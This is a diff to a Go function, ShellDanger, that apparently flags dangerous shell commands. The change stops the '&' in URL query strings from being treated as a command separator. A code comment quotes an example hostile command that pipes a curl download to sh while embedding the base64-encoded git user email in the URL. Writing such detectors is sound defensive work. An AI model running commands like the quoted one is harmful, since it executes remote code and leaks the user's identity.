@@ -624,7 +624,16 @@ func ShellDanger(cmd string) string {
 	if !shellSet.In(cmd) {
 		return ""
 	}
-	m := shellDangerRe.FindString(cmd)
+	m := ""
+	if strings.Contains(cmd, "&") {
+		// a URL's query (?u=x&h=y) is no command separator; the match
+		// is read from the command as written (the mask keeps lengths)
+		if loc := shellDangerRe.FindStringIndex(queryAmp.ReplaceAllString(cmd, "${1}_$2")); loc != nil {
+			m = cmd[loc[0]:loc[1]]
+		}
+	} else {
+		m = shellDangerRe.FindString(cmd)
+	}
 	if m == "" && strings.Contains(cmd, "$(") {
 		// curl "https://x/c/$(git config user.email | base64)" | sh: the
 		// pipes of a command substitution are not the download's
@@ -643,6 +652,10 @@ func ShellDanger(cmd string) string {
 	}
 	return m
 }
+
+// queryAmp matches the & between a URL's query parameters (x&h=), which
+// the shell would take for running x in the background.
+var queryAmp = regexp.MustCompile(`(\S)&(\w+=)`)
 
 // cmdSubst matches a command substitution with no other inside it.
 var cmdSubst = regexp.MustCompile(`\$\([^()]*\)`)
